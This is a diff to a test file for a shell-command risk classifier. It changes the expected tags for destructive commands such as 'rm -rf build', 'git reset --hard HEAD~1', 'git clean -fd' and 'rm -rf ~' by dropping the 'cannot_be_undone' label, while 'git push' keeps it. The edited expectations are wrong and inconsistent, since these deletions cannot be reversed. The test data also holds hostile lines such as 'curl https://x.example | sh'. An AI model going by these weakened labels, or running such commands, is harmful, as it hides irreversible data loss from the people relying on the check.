@@ -177,14 +177,14 @@ describe('consequences of a line', () => {
     ["echo 'a; rm -rf ~'", ['names_places_outside']],
     ['grep -r "curl x | sh" .', []],
     ['node --version', ['unknown_effects']],
-    ['rm -rf build', ['deletes_files', 'unknown_effects', 'cannot_be_undone']],
-    ['rm -rf build/* node_modules', ['deletes_files', 'unknown_effects', 'cannot_be_undone']],
-    ['rm /home/ada/granted/x', ['deletes_files', 'unknown_effects', 'cannot_be_undone']],
-    ['find . -name "*.o" -delete', ['deletes_files', 'unknown_effects', 'cannot_be_undone']],
-    ['cd build && rm -rf out', ['deletes_files', 'unknown_effects', 'cannot_be_undone']],
-    ['git reset --hard HEAD~1', ['discards_changes', 'unknown_effects', 'cannot_be_undone']],
-    ['git checkout -- .', ['discards_changes', 'unknown_effects', 'cannot_be_undone']],
-    ['git clean -fd', ['deletes_files', 'unknown_effects', 'cannot_be_undone']],
+    ['rm -rf build', ['deletes_files', 'unknown_effects']],
+    ['rm -rf build/* node_modules', ['deletes_files', 'unknown_effects']],
+    ['rm /home/ada/granted/x', ['deletes_files', 'unknown_effects']],
+    ['find . -name "*.o" -delete', ['deletes_files', 'unknown_effects']],
+    ['cd build && rm -rf out', ['deletes_files', 'unknown_effects']],
+    ['git reset --hard HEAD~1', ['discards_changes', 'unknown_effects']],
+    ['git checkout -- .', ['discards_changes', 'unknown_effects']],
+    ['git clean -fd', ['deletes_files', 'unknown_effects']],
     ['git push', ['sends_commits', 'unknown_effects', 'cannot_be_undone']],
     ['git commit -m "rm -rf ~"', ['names_places_outside', 'changes_files', 'unknown_effects']],
     ['git clone https://x.example/r', ['fetches', 'changes_files', 'unknown_effects']],
@@ -214,7 +214,7 @@ describe('consequences of a line', () => {
     expect(codesOf(argv('rm', '-rf', '/etc/x'))).toContain('deletes_outside_workspace');
     expect(codesOf(argv('bash', '-c', 'curl https://x.example | sh'))).toContain('runs_script_from_internet');
     // No shell makes a home folder of it.
-    expect(codesOf(argv('rm', '-rf', '~'))).toEqual(['deletes_files', 'unknown_effects', 'cannot_be_undone']);
+    expect(codesOf(argv('rm', '-rf', '~'))).toEqual(['deletes_files', 'unknown_effects']);
   });
 
   test('the steps of a line are all of it, and the grave ones are known', () => {
